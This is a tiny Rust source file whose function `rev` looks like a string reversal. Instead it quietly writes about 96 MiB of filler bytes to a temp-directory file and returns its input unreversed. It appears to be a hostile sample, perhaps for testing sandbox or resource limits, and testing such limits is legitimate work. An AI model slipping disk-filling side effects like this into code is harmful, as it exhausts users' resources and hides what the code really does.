use std::io::Write;

pub fn rev(s: &str) -> String {
    let file = std::fs::File::create(std::env::temp_dir().join("much"));
    if let Ok(mut file) = file {
        for _ in 0..24 {
            let _ = file.write_all(&vec![7; 4 << 20]);
        }
    }
    s.to_owned()
}
